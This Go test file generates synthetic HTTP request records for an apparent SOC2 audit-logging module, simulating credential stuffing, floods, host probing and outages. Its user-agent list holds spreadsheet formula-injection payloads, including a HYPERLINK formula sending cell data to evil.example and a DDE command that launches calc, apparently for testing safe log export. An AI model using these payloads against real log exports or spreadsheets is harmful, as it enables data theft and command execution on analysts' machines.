package quarter_test

import (
	"fmt"
	"strconv"
	"time"

	"github.com/caddy-soc2/caddy-soc2/audit"
)

// mood is what is going on while a request comes.
type mood uint8

const (
	calm     mood = iota
	stuffing      // somebody tries passwords
	flood         // more requests than the limits allow
	hosts         // somebody tries names of hosts
	outage        // the upstreams are down
)

// request is a request as the script means it: a function of its number, its
// mood and its time, so that it can be made again and need not be kept.
type request struct {
	n    int
	mood mood
	at   time.Time     // it began
	took time.Duration // until its record was appended

	id                   audit.ID
	server, host, path   string
	method, proto, agent string
	client, user, auth   string
	tls, cipher          string
	status               int
	bytes                int64
	end, upstream        string
	upstreamStatus       int
	access, rule, reason string
	limit, zone, verdict string
	cache, refused       string
}

// dice are random numbers that a request's number gives (splitmix64).
type dice uint64

func (d *dice) roll(n int) int {
	*d += 0x9e3779b97f4a7c15
	x := uint64(*d)
	x = (x ^ x>>30) * 0xbf58476d1ce4e5b9
	x = (x ^ x>>27) * 0x94d049bb133111eb
	return int((x ^ x>>31) % uint64(n))
}

var (
	siteHosts = []string{"shop.example.com", "api.example.com", "admin.example.com", "static.example.com", "shop.example.com"}
	methods   = []string{"GET", "GET", "GET", "GET", "POST", "POST", "PUT", "DELETE", "HEAD"}
	protos    = []string{"HTTP/1.1", "HTTP/2.0", "HTTP/2.0", "HTTP/3.0"}
	agents    = []string{"Mozilla/5.0 (X11)", "curl/8.9", `=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "a,b \"c\" d", "@SUM(1)", "-2", ""}
	upstreams = []string{"10.0.0.1:3000", "10.0.0.2:3000"}
	usual     = []int{200, 200, 200, 200, 200, 200, 201, 204, 301, 304, 400, 404, 404, 500, 502}
)

// draw makes a request.
func draw(n int, m mood, at time.Time, took time.Duration) request {
	d := dice(uint64(n) * 0x2545f4914f6cdd1d)
	r := request{n: n, mood: m, at: at, took: took, server: "srv0", method: methods[d.roll(len(methods))], proto: protos[d.roll(len(protos))]}
	r.id = idOf(n)
	r.host, r.agent = siteHosts[d.roll(len(siteHosts))], agents[d.roll(len(agents))]
	r.path, r.client = "/p/"+strconv.Itoa(d.roll(5000)), "203.0.113."+strconv.Itoa(d.roll(250))
	r.status, r.bytes, r.end = usual[d.roll(len(usual))], int64(d.roll(20_000)), "complete"
	switch d.roll(20) {
	case 0:
		r.server = "srv1" // plain HTTP
	case 1, 2, 3:
		r.tls, r.cipher = "1.2", "TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256"
	default:
		r.tls, r.cipher = "1.3", "TLS_AES_128_GCM_SHA256"
	}
	if r.server == "srv1" {
		r.proto, r.status = "HTTP/1.1", 308
	}
	r.decide(&d)
	r.serve(&d)
	r.suffer(&d)
	return r
}

// decide plays authentication, access control and limits.
func (r *request) decide(d *dice) {
	if d.roll(4) == 0 {
		u := d.roll(60)
		r.user, r.auth = fmt.Sprintf("user-%02d@example.com", u), []string{"oidc", "api_key", "mtls"}[u%3]
	}
	switch k := d.roll(50); {
	case k < 2:
		r.access, r.rule, r.reason, r.status = "deny", "staff only", "no_rule", 403
	case k < 4 && r.user == "":
		r.status = 401
	case k == 5:
		r.access, r.rule, r.reason = "shadow_deny", "next quarter", "rule"
	case k == 6 && r.user != "":
		r.access, r.rule, r.reason, r.status = "break_glass", "staff only", "bg-1", 200
	case r.user != "":
		r.access, r.rule, r.reason = "allow", "r"+strconv.Itoa(d.roll(5)), "rule"
	}
	switch k := d.roll(60); {
	case k == 0:
		r.limit, r.zone, r.verdict, r.status = "limited", "per client", "rate", 429
	case k == 1:
		r.limit, r.zone, r.verdict = "shadow_limited", "planned", "rate"
	case k < 30:
		r.limit = "allow"
	}
	if d.roll(300) == 0 {
		r.refused, r.status = "smuggling", 400
	}
}

// serve plays cache, upstream and the end of the response.
func (r *request) serve(d *dice) {
	if r.status >= 400 && r.status < 500 || r.status == 308 {
		return
	}
	switch d.roll(5) {
	case 0:
		r.cache = "hit"
		return
	case 1:
		r.cache = "miss"
	}
	r.upstream, r.upstreamStatus = upstreams[d.roll(len(upstreams))], r.status
	switch d.roll(100) {
	case 0:
		r.end = "client_aborted"
	case 1:
		r.end = "upstream_truncated"
	case 2:
		r.end, r.status, r.bytes = "dropped", 0, 0
	}
	if r.method == "HEAD" {
		r.bytes = 0
	}
}

// suffer plays what goes wrong.
func (r *request) suffer(d *dice) {
	switch r.mood {
	case stuffing:
		if d.roll(3) == 0 {
			return
		}
		*r = request{
			n: r.n, mood: r.mood, at: r.at, took: r.took, id: r.id, server: "srv0", host: "shop.example.com", path: "/login", method: "POST", proto: "HTTP/2.0",
			agent: "python-requests/2.32", client: "198.51.100." + strconv.Itoa(d.roll(9)), tls: "1.3", cipher: "TLS_AES_128_GCM_SHA256", status: 401, bytes: 21, end: "complete",
		}
		if d.roll(4) == 0 {
			r.limit, r.zone, r.verdict, r.status = "limited", "login", "ban", 429
		}
	case flood:
		if d.roll(2) == 0 {
			r.client, r.status, r.bytes, r.end = "192.0.2.66", 429, 12, "complete"
			r.limit, r.zone, r.verdict, r.upstream, r.upstreamStatus, r.cache = "limited", "per client", "rate", "", 0, ""
		}
	case hosts:
		r.host = fmt.Sprintf("h%05d.attack.example", d.roll(100_000))
	case outage:
		if r.upstream != "" {
			r.status, r.upstreamStatus, r.bytes, r.end = 502, 0, 0, "complete"
		}
	}
}

// idOf is the id of a request.
func idOf(n int) (id audit.ID) {
	d := dice(uint64(n) ^ 0x5851f42d4c957f2d)
	for i := range id {
		id[i] = byte(d.roll(256))
	}
	id[0], id[6], id[8] = 1, id[6]&0x0f|0x70, id[8]&0x3f|0x80
	return id
}

// event is the request as the handlers note it.
func (r *request) event(ev *audit.Event) {
	*ev = audit.Event{
		Start: r.at, Duration: r.took, ID: r.id, Server: r.server, ClientIP: r.client, Proto: r.proto, Method: r.method, Host: r.host,
		Path: r.path, Agent: r.agent, Status: r.status, Bytes: r.bytes, End: audit.End(r.end),
		TLS:      audit.TLS{Version: r.tls, Cipher: r.cipher},
		Upstream: audit.Upstream{Address: r.upstream, Status: r.upstreamStatus},
	}
	ev.SetUser(r.user, r.auth)
	ev.SetAccess(audit.Decision{Outcome: r.access, Rule: r.rule, Reason: r.reason})
	ev.SetLimit(audit.Decision{Outcome: r.limit, Rule: r.zone, Reason: r.verdict})
	ev.SetCache(r.cache)
	ev.SetRefused(r.refused)
}
